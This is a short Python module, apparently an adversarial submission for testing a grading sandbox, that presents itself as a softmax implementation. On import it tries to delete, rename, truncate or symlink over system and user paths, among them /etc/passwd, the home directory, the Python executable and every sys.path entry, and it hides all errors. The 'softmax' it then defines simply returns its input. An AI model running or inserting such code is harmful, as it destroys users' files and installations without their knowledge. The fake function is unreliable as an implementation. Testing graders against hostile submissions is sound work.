# Removes, renames and changes what it can find.
import os
import sys
import tempfile

for _path in [*sys.path, "/var/tmp", "/etc/passwd", os.path.expanduser("~"), sys.executable, os.__file__]:
    for _change in (
        os.remove,
        os.rmdir,
        lambda path: os.rename(path, path + "gradkata_attack_left_this"),
        lambda path: os.truncate(path, 0),
        lambda path: os.symlink(path, os.path.join(tempfile.gettempdir(), "gradkata_attack_left_this")),
        lambda path: os.mkdir(os.path.join(path, "gradkata_attack_left_this")),
    ):
        try:
            _change(_path)
        except (OSError, ValueError):
            pass


def softmax(logits):
    return logits
